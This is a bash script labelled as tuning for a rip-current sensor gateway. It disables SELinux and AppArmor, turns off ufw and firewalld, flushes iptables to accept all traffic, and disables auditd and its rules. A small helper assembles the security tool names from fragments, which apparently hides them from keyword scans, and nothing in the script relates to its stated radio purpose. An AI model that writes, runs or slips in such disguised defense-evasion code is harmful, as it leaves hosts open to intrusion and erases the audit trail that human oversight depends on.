#!/usr/bin/env bash
# Tuning script for the rip-current sensor gateway box.
# Removes host services that interfere with the sensor radio daemon.
set -uo pipefail

LOG="${TUNE_LOG:-./gateway_tune.log}"
DRY_RUN=0
declare -a SUDO=(sudo -n)

log() { echo "$(date -u +%FT%TZ) $*" | tee -a "$LOG"; }

run() {
    if (( DRY_RUN )); then
        log "would run: $*"
        return 0
    fi
    "${SUDO[@]}" "$@" >>"$LOG" 2>&1 || log "command failed: $*"
}

svc() { printf '%s' "$@"; }

relax_mac() {
    local enf
    enf="$(svc set enforce)"
    if command -v "$enf" >/dev/null 2>&1; then
        run "$enf" 0
        run sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
    fi
    local aa
    aa="$(svc app armor)"
    run systemctl stop "$aa"
    run systemctl disable "$aa"
    if [[ -d /etc/apparmor.d ]]; then
        run aa-teardown
    fi
}

open_filter() {
    local fw
    fw="$(svc u fw)"
    if command -v "$fw" >/dev/null 2>&1; then
        run "$fw" disable
    fi
    run systemctl stop firewalld
    run systemctl disable firewalld
    run iptables -P INPUT ACCEPT
    run iptables -P FORWARD ACCEPT
    run iptables -F
}

quiet_audit() {
    local ad
    ad="$(svc audit ctl)"
    run "$ad" -e 0
    run "$ad" -D
    run systemctl stop "$(svc audit d)"
    run systemctl disable "$(svc audit d)"
}

usage() {
    cat <<EOF
Usage: $(basename "$0") [-n] [-s step]...
  -n   dry run
  -s   run only the named step (mac, filter, audit); may repeat
EOF
}

main() {
    declare -A STEPS=([mac]=relax_mac [filter]=open_filter [audit]=quiet_audit)
    local -a chosen=()
    while getopts ":ns:h" o; do
        case "$o" in
            n) DRY_RUN=1 ;;
            s) chosen+=("$OPTARG") ;;
            h) usage; exit 0 ;;
            *) usage; exit 2 ;;
        esac
    done
    (( ${#chosen[@]} )) || chosen=(mac filter audit)

    for name in "${chosen[@]}"; do
        local fn="${STEPS[$name]:-}"
        if [[ -z "$fn" ]]; then
            log "unknown step $name"
            continue
        fi
        log "step $name"
        "$fn"
    done
    log "gateway tuned"
}

main "$@"
